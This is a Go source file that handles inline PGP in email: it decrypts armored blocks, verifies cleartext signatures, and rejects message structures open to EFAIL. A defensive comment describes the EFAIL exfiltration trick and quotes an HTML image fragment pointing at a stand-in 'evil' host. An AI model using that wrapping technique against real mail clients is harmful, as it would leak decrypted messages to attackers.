package pgpmime

import (
	"bytes"
	"fmt"
	"strings"

	"github.com/ProtonMail/go-crypto/openpgp/clearsign"
)

// Inline PGP: armored OpenPGP data inside an ordinary text/plain body
// (RFC 4880 §6.2 ASCII Armor; cleartext signatures RFC 4880 §7). There is
// no MIME labelling, so it is recognised by the armor lines alone, which
// must start a line.
const (
	beginMessage = "-----BEGIN PGP MESSAGE-----"
	endMessage   = "-----END PGP MESSAGE-----"
	beginSigned  = "-----BEGIN PGP SIGNED MESSAGE-----"
)

// armorLine finds line (at the start of a line) in text from offset from.
func armorLine(text []byte, line string, from int) int {
	for from <= len(text) {
		i := bytes.Index(text[from:], []byte(line))
		if i < 0 {
			return -1
		}
		i += from
		if i == 0 || text[i-1] == '\n' {
			return i
		}
		from = i + 1
	}
	return -1
}

// inline handles inline PGP in the text/plain parts of msg that are not
// attachments (the whole body of a single-part message, or parts of a
// multipart/mixed or multipart/alternative tree; parts inside
// multipart/signed or multipart/encrypted are left alone). The behaviour
// is described under "Choices made by Process" in the package
// documentation.
func (p *processor) inline(msg []byte, depth int, st *state) []byte {
	failed := false
	// What an inline block can never cover: every shown unit but the
	// text part it is in (other inline parts too: each block covers
	// only itself). Listed once, when needed.
	var units []shownUnit
	unitsDone := false
	outside := func(raw []byte) []string {
		if !unitsDone {
			units, unitsDone = shownUnits(msg), true
		}
		return othersThan(units, offsetIn(msg, raw))
	}
	w := &walker{leaf: func(e *entity, raw []byte) []byte {
		if failed {
			return nil
		}
		mt, params := mediaType(e.header)
		if mt != "text/plain" || isAttachment(e.header) {
			return nil
		}
		text, err := decodeCTE(getValue(e.header, "Content-Transfer-Encoding"), e.body)
		if err != nil && len(text) == 0 {
			return nil
		}
		hasEnc := armorLine(text, beginMessage, 0) >= 0
		hasSig := armorLine(text, beginSigned, 0) >= 0
		if !hasEnc && !hasSig {
			return nil
		}
		if depth >= MaxDepth {
			if hasEnc {
				st.encrypted, st.decryptErr, failed = true, ErrTooDeep, true
			}
			return nil
		}
		if !hasEnc {
			p.inlineVerify(text, outside(raw), st)
			return nil
		}
		st.encrypted = true
		if !inlineStructureSafe(msg) {
			st.decryptErr, failed = ErrUnsafeStructure, true
			return nil
		}
		plain, charset, uncovered, err := p.inlineDecrypt(text, outside(raw), st)
		if err != nil {
			st.decryptErr, failed = err, true
			return nil
		}
		st.decrypted = true
		if armorLine(plain, beginSigned, 0) >= 0 {
			p.inlineVerify(plain, uncovered, st)
		}
		if charset == "" {
			if cs := strings.ToLower(params["charset"]); (cs == "" || cs == "us-ascii") && !isASCII(string(plain)) && isUTF8(plain) {
				charset = "utf-8"
			}
		}
		cte, body := encodeText(plain, e.eol)
		hdr := setFieldValue(e.header, "Content-Transfer-Encoding", cte, e.eol)
		if charset != "" {
			ps := without(params, "charset")
			ps["charset"] = charset
			hdr = setFieldValue(hdr, "Content-Type", formatMediaType(mt, ps), e.eol)
		}
		var b bytes.Buffer
		writeHeader(&b, hdr, e.eol)
		b.Write(body)
		return b.Bytes()
	}}
	out, _ := w.rewrite(msg)
	if failed {
		return msg
	}
	return out
}

// inlineDecrypt replaces every PGP MESSAGE block in text by its
// plaintext. others are the shown units beside this text part: like the
// text around the blocks, they were not encrypted, nor covered by a
// signature inside a block.
func (p *processor) inlineDecrypt(text []byte, others []string, st *state) (plain []byte, charset string, uncovered []string, err error) {
	var out, outside bytes.Buffer
	pos := 0
	blocks := 0
	local := &state{sig: SigNone}
	for {
		i := armorLine(text, beginMessage, pos)
		if i < 0 {
			break
		}
		blocks++
		if blocks > maxInlineBlocks {
			return nil, "", nil, fmt.Errorf("%w: too many PGP blocks", ErrMalformed)
		}
		j := armorLine(text, endMessage, i)
		if j < 0 {
			return nil, "", nil, fmt.Errorf("%w: PGP MESSAGE without END line", ErrMalformed)
		}
		end := j + len(endMessage)
		for end < len(text) && text[end] != '\r' && text[end] != '\n' {
			end++
		}
		dr, err := p.decrypt(text[i:end])
		if err != nil {
			return nil, "", nil, err
		}
		if bytes.HasSuffix(dr.plain, []byte("\n")) {
			// The plaintext brings its own final line break.
			if bytes.HasPrefix(text[end:], []byte("\r\n")) {
				end += 2
			} else if bytes.HasPrefix(text[end:], []byte("\n")) {
				end++
			}
		}
		out.Write(text[pos:i])
		outside.Write(text[pos:i])
		out.Write(dr.plain)
		local.addSig(dr.sig, dr.sigErr, dr.signer)
		if charset == "" && dr.armorHeaders != nil {
			charset = strings.ToLower(strings.TrimSpace(dr.armorHeaders["Charset"]))
		}
		pos = end
	}
	out.Write(text[pos:])
	outside.Write(text[pos:])
	uncovered = others
	if len(bytes.TrimSpace(outside.Bytes())) > 0 {
		uncovered = append([]string{"text around the encrypted block"}, others...)
	}
	st.encOutside = append(st.encOutside, uncovered...)
	if local.sig == SigValid {
		sigUncovered := uncovered
		if blocks > 1 {
			sigUncovered = append([]string{"another encrypted block"}, uncovered...)
		}
		st.addCovered(local.signer, sigUncovered)
	} else {
		st.addSig(local.sig, local.sigErr, local.signer)
	}
	return out.Bytes(), charset, uncovered, nil
}

// inlineVerify verifies cleartext-signed blocks (RFC 4880 §7) in text;
// others are the shown units beside this text part.
func (p *processor) inlineVerify(text []byte, others []string, st *state) {
	local := &state{sig: SigNone}
	var outside bytes.Buffer
	pos := 0
	blocks := 0
	for n := 0; n < maxInlineBlocks; n++ {
		i := armorLine(text, beginSigned, pos)
		if i < 0 {
			break
		}
		blocks++
		outside.Write(text[pos:i])
		b, rest := clearsign.Decode(text[i:])
		if b == nil || b.ArmoredSignature == nil {
			local.addSig(SigInvalid, fmt.Errorf("%w: cleartext signature", ErrMalformed), nil)
			pos = i + len(beginSigned)
			continue
		}
		signer, err := b.VerifySignature(p.keyring, p.cfg)
		s, who, serr := sigOutcome(signer, err)
		local.addSig(s, serr, who)
		pos = len(text) - len(rest)
		if pos <= i {
			pos = i + len(beginSigned)
		}
	}
	if pos < len(text) {
		outside.Write(text[pos:])
	}
	if local.sig != SigValid {
		st.addSig(local.sig, local.sigErr, local.signer)
		return
	}
	uncovered := others
	if len(bytes.TrimSpace(outside.Bytes())) > 0 {
		uncovered = append([]string{"text around the signed block"}, uncovered...)
	}
	if blocks > 1 {
		// Each block is signed on its own, perhaps by someone else.
		uncovered = append([]string{"another signed block"}, uncovered...)
	}
	st.addCovered(local.signer, uncovered)
}

// inlineStructureSafe guards against "direct exfiltration" (EFAIL,
// Poddebniak et al., USENIX Security 2018): an attacker wraps a captured
// PGP block in a multipart/mixed between HTML parts such as
// `<img src="https://evil/` and `">`; clients that render the parts as
// one document would send the decrypted text to the attacker. So inline
// blocks are only decrypted when no HTML part is rendered next to them:
// text/html is allowed only as an alternative in a multipart/alternative
// that is the message itself or the first part of a top-level
// multipart/mixed (only one alternative is ever shown), or as an
// attachment.
func inlineStructureSafe(msg []byte) bool {
	n := 0
	var scan func(raw []byte, depth int, allowHTML, top bool) bool
	scan = func(raw []byte, depth int, allowHTML, top bool) bool {
		n++
		if n > maxWalkParts || depth > maxWalkDepth {
			return false
		}
		e, err := parseEntity(raw)
		if err != nil {
			return true // not rendered as a part at all
		}
		mt, params := mediaType(e.header)
		if !strings.HasPrefix(mt, "multipart/") {
			return mt != "text/html" || allowHTML || isAttachment(e.header)
		}
		mp, ok := splitMultipart(e.body, params["boundary"])
		if !ok {
			return true
		}
		for i, pt := range mp.parts {
			childTop := false
			allow := false
			switch {
			case mt == "multipart/alternative":
				allow = top
			case mt == "multipart/mixed" && top && i == 0:
				childTop = true // the main body of the message
			}
			if !scan(e.body[pt.start:pt.end], depth+1, allow, childTop) {
				return false
			}
		}
		return true
	}
	return scan(msg, 0, false, true)
}
